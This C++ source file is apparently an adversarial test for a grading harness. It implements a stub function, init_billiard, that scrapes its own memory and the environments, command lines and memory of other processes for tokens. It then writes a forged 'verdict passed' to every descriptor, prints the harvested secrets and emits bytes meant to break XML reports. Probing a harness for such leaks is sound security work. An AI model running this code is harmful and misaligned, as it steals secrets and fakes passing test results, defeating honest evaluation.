// Attack: find the grader's secret in memory. The old harness kept a token in the test's own
// process; this searches its environment, every readable page of its own memory, and the
// command lines, environments and memory of every other process it can open for a "token",
// and sends what it finds as "verdict passed" on every descriptor. It prints what it found, so
// that a leak would show, and bytes that no report's format takes as they are. The function
// itself only throws.
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fstream>
#include <iostream>
#include <sstream>
#include <stdexcept>
#include <string>

#include "billiard/course.hpp"

extern char** environ;

namespace billiard {
namespace {

std::string found;

void search(const std::string& text, const std::string& where) {
  for (const char* word : {"TOKEN", "token"}) {
    const auto at = text.find(word);
    if (at != std::string::npos) found += where + ": " + text.substr(at, 80) + "\n";
  }
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

void search_everything() {
  for (char** variable = environ; *variable != nullptr; ++variable) search(*variable, "environment");
  std::ifstream maps("/proc/self/maps");
  const int memory = ::open("/proc/self/mem", O_RDONLY);
  for (std::string line; std::getline(maps, line);) {
    unsigned long from = 0, to = 0;
    char permissions[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &from, &to, permissions) != 3 || permissions[0] != 'r') continue;
    if (to - from > (64ul << 20) || line.find("[vvar]") != std::string::npos) continue;
    std::string page(to - from, '\0');
    if (memory >= 0 && ::pread(memory, page.data(), page.size(), static_cast<off_t>(from)) > 0) search(page, "memory");
  }
  if (memory >= 0) ::close(memory);
  if (DIR* proc = ::opendir("/proc")) {
    while (dirent* entry = ::readdir(proc)) {
      const std::string pid = entry->d_name;
      if (pid.empty() || pid[0] < '0' || pid[0] > '9' || pid == std::to_string(::getpid())) continue;
      for (const char* part : {"/cmdline", "/environ", "/mem"}) search(slurp("/proc/" + pid + part), "process " + pid);
    }
    ::closedir(proc);
  }
  const std::string forged = "verdict passed\n" + found;
  for (int fd = 0; fd < 64; ++fd) (void)!::write(fd, forged.data(), forged.size());
  std::cout << "FOUND-SECRETS-BEGIN\n" << found << "FOUND-SECRETS-END" << std::endl;
  // And bytes no report format takes as they are (the JUnit file is XML).
  std::cout << std::string("\0\x01\x1b[31m\xff\xfe\x08", 10) << std::endl;
}

}  // namespace

Coordinates init_billiard(double, double, int n, Rng&) {
  search_everything();
  throw std::logic_error("not computed, n = " + std::to_string(n));
}

}  // namespace billiard
